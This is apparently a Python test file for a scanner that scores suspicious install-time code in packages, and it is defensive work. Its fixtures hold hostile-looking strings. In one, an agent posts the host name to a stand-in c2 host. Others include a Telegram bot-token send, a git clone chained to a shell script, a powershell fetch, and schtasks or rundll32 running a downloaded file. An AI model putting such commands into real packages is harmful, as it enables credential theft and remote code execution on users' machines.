def test_a_large_armored_module_is_parsed_so_its_top_level_runs_at_import() -> None:
    """A PyArmor-packed module is one ``__pyarmor__(...)`` call at module level with a big
    blob: the prefilter asks for its parse, so the call counts as import-time code, not as
    code of an unanalysed file assumed to run only when called."""
    blob = "\\x00\\x01" * 20_000
    armored = f"__pyarmor__(__name__, __file__, b'PYARMOR{blob}')\n"
    files = {
        "pyproject.toml": "",
        "setup.py": "from setuptools import setup\nsetup(py_modules=['tool'])\n",
        "tool.py": armored,
    }
    entries = [(p, len(t.encode()), _reader(t.encode())) for p, t in files.items()]
    ctx = ScanContext(artifact_from_files("demo", entries))
    findings = list(RULES["packed-code"].check(ctx))
    assert len(armored) > 12 * 1024
    assert findings
    assert {f.phase for f in findings} == {Phase.IMPORT}


def test_identity_sent_to_a_configured_destination_weighs_less_than_to_a_written_address() -> None:
    """An agent reporting its host name to the manager it was given is not a stealer posting it
    to an address it hides; a literal address held in an attribute is still written down."""
    code = (
        "import requests, socket\n"
        "class Agent:\n"
        "    def __init__(self, manager):\n        self.manager = self.m = manager\n"
        "    def report(self):\n"
        "        {dest}\n"
        "        requests.post(uri, json={{'host': socket.gethostname()}})\n"
        "Agent('x').report()\n"
    )
    configured = weight(
        "fingerprint-exfil", {"demo/__init__.py": code.format(dest="uri = self.manager + 'Status'")}
    )
    written = weight(
        "fingerprint-exfil",
        {"demo/__init__.py": code.format(dest="uri = 'https://c2.example.invalid/' + self.m")},
    )
    assert 0 < configured < written


def test_a_chat_api_named_weighs_less_than_one_with_its_credentials_or_one_sent_to() -> None:
    """A bot library names the chat API's base address; a stealer bakes its bot's token in, or
    hands the address to a send."""
    base = "API = 'https://api.telegram.org/bot'\n"
    token = "API = 'https://api.telegram.org/bot123456789:AA" + "x" * 33 + "/sendMessage'\n"
    sent = "import requests\nAPI = 'https://api.telegram.org/bot'\nrequests.post(API, data={})\n"
    named = weight("exfiltration-endpoint", {"acme/api.py": base})
    assert 0 < named < weight("exfiltration-endpoint", {"acme/api.py": token})
    assert named < weight("exfiltration-endpoint", {"acme/api.py": sent})


def _setup_runs(line: str) -> dict[str, str]:
    """A setup.py that runs ``line`` (one statement) as pip runs it."""
    return {"setup.py": f"import os, shutil, subprocess, sys\n{line}\n"}


def test_a_version_control_checkout_of_sources_is_build_tooling() -> None:
    """``git clone URL vendor/lib`` fetches sources a build compiles; a clone chained to a
    script it runs is still a fetch that runs code."""
    clone = "subprocess.run(['git', 'clone', '--depth', '1', 'https://git.example.invalid/l.git'])"
    chained = "os.system('git clone https://git.example.invalid/l.git && sh l/install.sh')"
    assert weight("process-exec", _setup_runs(clone)) < 0.1
    assert weight("process-exec", _setup_runs(chained)) > 0.3


def test_a_shell_line_of_build_tools_only_is_build_tooling() -> None:
    """A compiler check (``bash -c "g++ -x c++ - <<<'int main() {}' -o t && rm t"``) runs build
    tools only, its quoted program left aside; a line that then runs what it built is not."""
    check = 'os.system("bash -c \\"g++ -x c++ - <<<\'int main() {}\' -o t && rm t\\"")'
    runs = 'os.system("bash -c \\"g++ a.c -o t && ./t\\"")'
    assert weight("process-exec", _setup_runs(check)) < 0.1
    assert weight("process-exec", _setup_runs(runs)) > 0.3


def test_a_program_found_with_which_is_classified_by_its_name() -> None:
    npm = "npm = shutil.which('npm')\nsubprocess.run([npm, 'install'])"
    ps = "ps = shutil.which('powershell')\nsubprocess.run([ps, '-NoP', '-c', 'iwr https://x.example.invalid/a'])"
    literal = "subprocess.run(['powershell', '-NoP', '-c', 'iwr https://x.example.invalid/a'])"
    assert weight("process-exec", _setup_runs(npm)) < 0.1
    assert weight("process-exec", _setup_runs(ps)) == weight("process-exec", _setup_runs(literal))


def test_restarting_python_with_its_own_arguments_is_running_python() -> None:
    restart = "os.execve(sys.executable, [sys.executable] + sys.argv, dict(os.environ))"
    inline = "os.execv(sys.executable, [sys.executable, '-c', 'import acme.payload'])"
    assert weight("process-exec", _setup_runs(restart)) < 0.1
    assert weight("process-exec", _setup_runs(inline)) > 0.3


def test_a_command_a_closure_takes_from_its_function_is_classified_like_a_literal_one() -> None:
    nested = (
        "import subprocess\ndef build():\n    cmd = ['make', 'install']\n"
        "    def _compile():\n        subprocess.call(cmd)\n    _compile()\n"
    )
    literal = "import subprocess\ndef build():\n    subprocess.call(['make', 'install'])\n"
    assert weight("process-exec", {"acme/b.py": nested}) == weight(
        "process-exec", {"acme/b.py": literal}
    )


def test_a_version_probe_formatted_with_percent_is_a_probe() -> None:
    probe = weight("process-exec", _system_format("os.popen('%s --version' % exe)"))
    assert probe < 0.1
    assert weight("process-exec", _system_format("os.popen('%s -c 1' % exe)")) > probe


def _system_format(call: str) -> dict[str, str]:
    return {"acme/tool.py": f"import os\ndef f(exe):\n    return {call}.read()\n"}


def test_a_shipped_build_script_run_from_its_folder_by_a_found_shell_is_build_tooling() -> None:
    """``os.system('cd rl && %s ./build.sh > /dev/null 2>&1' % shell)``: the folder change and
    the silenced output chain nothing; a command chained after the script still counts."""
    build = "#!/bin/sh\nset -e\n./configure --disable-shared\nmake\n"
    run = "os.system('cd rl && %s ./build.sh > /dev/null 2>&1' % shell)"
    chained = "os.system('cd rl && %s ./build.sh && ./x' % shell)"
    setup = "import os\nshell = os.environ.get('SHELL', 'sh')\n{}\n"
    shipped = {"setup.py": setup.format(run), "rl/build.sh": build}
    assert weight("process-exec", shipped) < 0.1
    assert weight("process-exec", {"setup.py": setup.format(run)}) > 0.3
    assert weight("process-exec", {**shipped, "setup.py": setup.format(chained)}) > 0.3


def test_exec_of_python_with_unknown_arguments_is_no_restart() -> None:
    restart = "os.execv(sys.executable, [sys.executable] + sys.argv)"
    unknown = "args = os.environ['X'].split()\nos.execv(sys.executable, args)"
    assert weight("process-exec", _setup_runs(unknown)) > weight(
        "process-exec", _setup_runs(restart)
    )


def test_a_system_tool_given_a_downloaded_file_is_running_it() -> None:
    """``schtasks /create /tr path`` or ``rundll32 path`` runs what was downloaded, unlike a
    tool that reads it as data."""
    fetch = "urllib.request.urlretrieve(url, path)"
    for run in (
        "subprocess.call(['schtasks', '/create', '/tn', 'u', '/tr', path])",
        "subprocess.call(['rundll32', path])",
    ):
        assert weight("download-execute", _tool_download(fetch, run)) > 0, run
